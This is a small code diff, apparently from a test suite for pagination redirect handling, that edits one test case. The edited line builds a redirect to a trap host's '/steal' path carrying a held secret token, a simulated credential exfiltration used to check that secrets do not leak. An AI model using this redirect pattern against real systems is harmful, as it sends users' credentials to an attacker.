@@ -118,7 +118,7 @@ const MID_PAGINATION: MidPagination[] = [
         kind: 'redirect',
         after: 1,
         times: 10,
-        location: `${h.trap.origin}/steal?token=${encodeURIComponent(h.heldSecret() ?? '')}`,
+        location: `${h.trap.origin}/steal?token=${encodeURIComponent(h.heldSecret())}`,
       }),
   },
 ];
